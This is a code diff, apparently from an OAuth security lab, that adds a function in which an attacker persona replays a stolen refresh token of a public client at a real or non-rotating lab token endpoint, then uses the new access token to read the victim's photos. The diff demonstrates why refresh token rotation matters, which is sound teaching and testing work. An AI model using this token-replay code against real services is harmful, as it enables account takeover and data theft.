@@ -113,3 +113,28 @@ export async function redeemAtRealServer(
   }
   return { status: 200, body, redemption: await readPhotos(config, body.access_token, 'Evil AS received the real code and redeemed it at the real auth server') };
 }
+
+/**
+ * Scenario 7, refresh token theft (RFC 9700 §4.14.2): with a stolen refresh token of a public client (no secret to
+ * stop her), Mallory asks for fresh access tokens herself. `endpoint` is the real token endpoint or the lab copy
+ * that does not rotate. Returns her result and the refresh token to use next time (a new one when it rotated).
+ */
+export async function useStolenRefreshToken(config: AttackerConfig, refreshToken: string, endpoint: 'real' | 'lab'): Promise<{ redemption: Redemption; next: string }> {
+  const path = endpoint === 'lab' ? '/lab/no-rotation/token' : '/token';
+  const response = await fetch(`${config.auth.internalUrl}${path}`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/x-www-form-urlencoded' },
+    body: new URLSearchParams({ grant_type: 'refresh_token', refresh_token: refreshToken, client_id: config.labPublicClientId }).toString(),
+    signal: AbortSignal.timeout(config.httpTimeoutMs),
+  });
+  const body = (await response.json().catch(() => ({}))) as Record<string, unknown>;
+  if (response.status !== 200 || typeof body.access_token !== 'string') {
+    const error = typeof body.error === 'string' ? body.error : `HTTP ${response.status}`;
+    const description = typeof body.error_description === 'string' ? body.error_description : '';
+    return { redemption: { success: false, summary: `The auth server refused her refresh: ${error}.`, details: [description] }, next: refreshToken };
+  }
+  const next = typeof body.refresh_token === 'string' ? body.refresh_token : refreshToken;
+  const rotated = next !== refreshToken;
+  const redemption = await readPhotos(config, body.access_token, `She refreshed with the stolen token${rotated ? ' (and got a new refresh token: rotation)' : ' (the same refresh token keeps working: no rotation)'}`);
+  return { redemption, next };
+}
